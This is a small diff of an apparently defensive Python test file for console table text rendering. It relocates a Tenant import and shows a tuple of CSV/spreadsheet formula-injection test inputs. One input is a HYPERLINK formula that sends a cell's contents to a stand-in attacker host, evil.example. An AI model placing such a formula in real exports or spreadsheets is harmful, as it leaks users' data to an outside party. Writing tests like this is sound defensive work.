@@ -7,8 +7,8 @@ from collections.abc import Sequence
 import pytest
 
 from orchestrator.console.tables import CellsOfText, _as_text
-from tests.integration.conftest import Tenant
 from tests.world.console import Browser
+from tests.world.tenant import Tenant
 
 FORMULAS = (
     *('=HYPERLINK("https://evil.example/?"&A1,"see")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1+1"),
